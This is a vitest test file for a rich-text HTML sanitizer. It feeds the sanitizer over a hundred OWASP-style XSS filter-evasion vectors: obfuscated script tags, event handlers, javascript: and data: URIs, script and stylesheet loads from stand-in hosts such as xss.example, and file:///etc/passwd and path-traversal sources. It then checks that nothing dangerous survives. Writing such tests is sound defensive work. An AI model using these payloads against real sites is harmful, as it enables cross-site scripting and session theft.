import { RICH_TEXT_ATTRIBUTES, RICH_TEXT_TAGS } from '@practice/common';
import { parseDocument } from 'htmlparser2';
import type { ChildNode, Element } from 'domhandler';
import { describe, expect, it } from 'vitest';
import { RICH_TEXT_MAX_NESTING } from '../src/rich-text/limits.ts';
import { hasContent, sanitizeRichText, signImages } from '../src/rich-text/sanitize.ts';
import { FileUrls } from '../src/storage/signed-urls.ts';

const OWN_KEY = `${'k'.repeat(32)}.png`;
const own = (key: string) => key === OWN_KEY;

/**
 * Filter-evasion vectors in the manner of OWASP's XSS cheat sheet: script in every spelling,
 * event handlers, dangerous URL schemes (obfuscated with entities, whitespace and case), styles,
 * embedded documents, SVG and MathML, broken markup, and remote or inline images.
 */
const VECTORS: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script/src="https://xss.example/x.js"></script>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=//xss.example/.j>',
  '<script>alert(1)<!--',
  '<scr<script>ipt>alert(1)</script>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=javascript:alert(\'XSS\')>',
  '<IMG SRC=JaVaScRiPt:alert(\'XSS\')>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC= onmouseover="alert(\'xxs\')">',
  '<IMG onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<SCRIPT/SRC="https://xss.example/xss.js"></SCRIPT>',
  '<iframe src=https://xss.example/scriptlet.html <',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<IMG LOWSRC="javascript:alert(\'XSS\')">',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<IMG SRC=\'vbscript:msgbox("XSS")\'>',
  '<IMG SRC="livescript:[code]">',
  '<svg/onload=alert(\'XSS\')>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:javascript:alert(1)">CLICKME</math>',
  '<BODY ONLOAD=alert(\'XSS\')>',
  '<BGSOUND SRC="javascript:alert(\'XSS\');">',
  '<BR SIZE="&{alert(\'XSS\')}">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<LINK REL="stylesheet" HREF="https://xss.example/xss.css">',
  '<STYLE>@import\'https://xss.example/xss.css\';</STYLE>',
  '<META HTTP-EQUIV="Link" Content="<https://xss.example/xss.css>; REL=stylesheet">',
  '<STYLE>BODY{-moz-binding:url("https://xss.example/xssmoz.xml#xss")}</STYLE>',
  '<STYLE>@im\\port\'\\ja\\vasc\\ript:alert("XSS")\';</STYLE>',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
  '<p style="display:none">escondido</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:white">tapado</p>',
  '<p style="color:transparent;font-size:0">invisível</p>',
  '<span style="visibility:hidden">x</span>',
  'exp/*<A STYLE=\'no\\xss:noxss("*//*");xss:ex/*XSS*//*/*/pression(alert("XSS"))\'>',
  '<STYLE TYPE="text/javascript">alert(\'XSS\');</STYLE>',
  '<STYLE>.XSS{background-image:url("javascript:alert(\'XSS\')");}</STYLE><A CLASS=XSS></A>',
  '<STYLE type="text/css">BODY{background:url("javascript:alert(\'XSS\')")}</STYLE>',
  '<XSS STYLE="behavior: url(xss.htc);">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><tr><td>x</td></tr></TABLE>',
  '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">x</TD></TABLE>',
  '<td onmouseover=alert(1)>célula</td>',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">x</DIV>',
  '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029\'\\0029">',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>',
  '<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert(&quot;XSS&quot;)</SCRIPT>"></BODY></HTML>',
  '<SCRIPT SRC="https://xss.example/xss.jpg"></SCRIPT>',
  '<!--#exec cmd="/bin/echo \'<SCR\'"--><!--#exec cmd="/bin/echo \'IPT SRC=https://xss.example/xss.js></SCRIPT>\'"-->',
  '<? echo(\'<SCR)\'; echo(\'IPT>alert("XSS")</SCRIPT>\'); ?>',
  '<IMG SRC="https://www.thesiteyouareon.example/somecommand.php?somevariables=maliciouscode">',
  '<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert(\'XSS\');+ADw-/SCRIPT+AD4-',
  '<SCRIPT a=">" SRC="httx://xss.example/xss.js"></SCRIPT>',
  '<SCRIPT =">" SRC="httx://xss.example/xss.js"></SCRIPT>',
  '<SCRIPT a=">" \'\' SRC="httx://xss.example/xss.js"></SCRIPT>',
  '<SCRIPT "a=\'>\'" SRC="httx://xss.example/xss.js"></SCRIPT>',
  '<SCRIPT a=`>` SRC="httx://xss.example/xss.js"></SCRIPT>',
  '<SCRIPT a=">\'>" SRC="httx://xss.example/xss.js"></SCRIPT>',
  '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.example/xss.js"></SCRIPT>',
  '<A HREF="javascript:document.location=\'https://www.google.com/\'">XSS</A>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6a;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example/">relativo ao protocolo</a>',
  '<a href="file:///etc/passwd">arquivo</a>',
  '<a href="https://ok.example" onclick="alert(1)" style="color:red" target="_self">ok</a>',
  '<a href="https://ok.example" rel="opener">abre</a>',
  '<img src="https://evil.example/track.png">',
  '<img src="http://evil.example/files/kkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkk.png.svg">',
  '<img src="data:image/png;base64,iVBORw0KGgo=">',
  '<img src="/files/../../etc/passwd">',
  '<img src="/files/notakey.png">',
  '<img srcset="https://evil.example/a.png 1x" src="x">',
  '<img src="/files/kkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkk.png" onerror="alert(1)" style="display:none" width="0">',
  '<p id="x" class="y" title="z" dir="rtl" onmouseenter="alert(1)">atributos</p>',
  '<form action="javascript:alert(1)"><input type="submit"></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)">',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<object data="javascript:alert(1)">',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p>texto</p><p/onclick=alert(1)>barra</p>',
  '<h1 onclick="alert(1)">título</h1><ol start="1 onmouseover=alert(1)"><li>a</li></ol>',
  '<table><tr><td colspan="2 onclick=alert(1)">x</td></tr></table>',
  '"><script>alert(document.domain)</script>',
  '\'"--></style></script><script>alert(1)</script>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<a href="https://ok.example/\u0000javascript:alert(1)">nulo</a>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<div><p>aninhado <b>negrito <i>itálico <u>sublinhado</u></i></b></p></div>',
];

const TAGS = new Set<string>(RICH_TEXT_TAGS);
const FILE_SRC = /^\/files\/[A-Za-z0-9_-]{32}\.[a-z0-9]{1,8}$/;

function isElement(node: ChildNode): node is Element {
  return node.type === 'tag' || node.type === 'script' || node.type === 'style';
}

/** Every problem a sanitized document still has, judged by parsing it again, independently of the sanitizer. */
function problems(html: string): string[] {
  const found: string[] = [];
  const walk = (nodes: readonly ChildNode[]) => {
    for (const node of nodes) {
      if (node.type === 'comment' || node.type === 'directive' || node.type === 'cdata') found.push(`${node.type} kept`);
      if (!isElement(node)) continue;
      if (!TAGS.has(node.name)) found.push(`<${node.name}> kept`);
      const allowed = node.name === 'a' ? ['href', 'target', 'rel'] : (RICH_TEXT_ATTRIBUTES[node.name] ?? []);
      for (const [name, value] of Object.entries(node.attribs)) {
        if (!allowed.includes(name)) found.push(`${node.name}[${name}] kept`);
        if (name === 'href' && !/^(https?:\/\/|mailto:)/i.test(value)) found.push(`href ${value}`);
        if (name === 'src' && !FILE_SRC.test(value)) found.push(`src ${value}`);
        // eslint-disable-next-line no-control-regex
        if (/^((java|vb|live)script|data):/i.test(value.replace(/[\s\u0000-\u001f]/g, ''))) found.push(`${name} ${value}`);
      }
      if (node.name === 'a' && node.attribs.rel !== 'noopener noreferrer') found.push('a without rel');
      walk(node.children);
    }
  };
  walk(parseDocument(html).children);
  return found;
}

describe('the rich text sanitizer', () => {
  it(`leaves nothing dangerous from ${VECTORS.length} filter-evasion vectors`, () => {
    expect(VECTORS.length).toBeGreaterThanOrEqual(100);
    for (const vector of VECTORS) {
      const clean = sanitizeRichText(vector, own);
      expect(problems(clean), `${vector} → ${clean}`).toEqual([]);
      expect(clean.toLowerCase(), vector).not.toMatch(/<script|<style|<iframe|<svg|<math|onerror|onload|onclick|onmouse/);
      // What is stored reads the same when sanitized again.
      expect(sanitizeRichText(clean, own)).toBe(clean);
    }
  });

  it('keeps the formatting the editor makes', () => {
    const html =
      '<h1>Título</h1><h2>Sub</h2><p><b>b</b> <strong>s</strong> <i>i</i> <em>e</em> <u>u</u> <s>s</s></p>' +
      '<ul><li>um</li></ul><ol start="3"><li>três</li></ol><p><a href="https://exemplo.com.br/a?b=1&amp;c=2">link</a> ' +
      '<a href="mailto:ana@exemplo.com.br">mail</a></p><table><thead><tr><th>A</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>' +
      `<p><img src="/files/${OWN_KEY}" alt="foto" /></p>`;
    expect(sanitizeRichText(html, own)).toBe(
      html
        .replace('href="https://exemplo.com.br/a?b=1&amp;c=2"', 'href="https://exemplo.com.br/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer"')
        .replace('href="mailto:ana@exemplo.com.br"', 'href="mailto:ana@exemplo.com.br" target="_blank" rel="noopener noreferrer"'),
    );
  });

  it('turns a signed URL of an own file into its key, and drops an unknown key', () => {
    expect(sanitizeRichText(`<img src="https://app.example/files/${OWN_KEY}?expires=1&signature=x">`, own)).toBe(`<img src="/files/${OWN_KEY}" />`);
    expect(sanitizeRichText(`<img src="/files/${'z'.repeat(32)}.png">`, own)).toBe('');
  });

  it('tells empty text from content', () => {
    expect(hasContent('<p> &nbsp; </p><p><br /></p>')).toBe(false);
    expect(hasContent('<p>a</p>')).toBe(true);
    expect(hasContent(`<img src="/files/${OWN_KEY}" />`)).toBe(true);
  });

  it('signs images only inside image tags', () => {
    const urls = new FileUrls('s'.repeat(40), () => new Date('2026-01-01T00:00:00Z'));
    const html = sanitizeRichText(`<p>src="/files/${OWN_KEY}"</p><img alt="a" src="/files/${OWN_KEY}">`, own);
    const signed = signImages(html, urls);
    expect(signed).toContain(`<p>src="/files/${OWN_KEY}"</p>`);
    expect(signed).toMatch(new RegExp(`<img src="/files/${OWN_KEY}\\?expires=\\d+&amp;signature=[^"]+" alt="a" />`));
  });

  it(`keeps at most ${RICH_TEXT_MAX_NESTING} levels of nesting, and the text of deeper ones`, () => {
    /** How deep the elements of `html` nest, walked with a stack so any depth can be measured. */
    const depthOf = (html: string) => {
      let deepest = 0;
      const pending: [ChildNode, number][] = parseDocument(html).children.map((node) => [node, 1]);
      for (let next = pending.pop(); next; next = pending.pop()) {
        const [node, depth] = next;
        if (node.type !== 'tag') continue;
        deepest = Math.max(deepest, depth);
        for (const child of (node as Element).children) pending.push([child, depth + 1]);
      }
      return deepest;
    };
    const list = (levels: number) => `${'<ul><li>'.repeat(levels)}no fundo${'</li></ul>'.repeat(levels)}`;
    const shallow = list(8);
    expect(sanitizeRichText(shallow)).toBe(shallow);
    for (const html of [list(3000), `<p>${'<b>'.repeat(50_000)}negrito${'</b>'.repeat(50_000)}</p>`, `${'<div>'.repeat(5000)}<p>solto</p>${'</div>'.repeat(5000)}`]) {
      const clean = sanitizeRichText(html);
      expect(depthOf(clean)).toBeLessThanOrEqual(RICH_TEXT_MAX_NESTING);
      expect(clean).toMatch(/no fundo|negrito|solto/);
      expect(sanitizeRichText(clean)).toBe(clean);
    }
  });
});
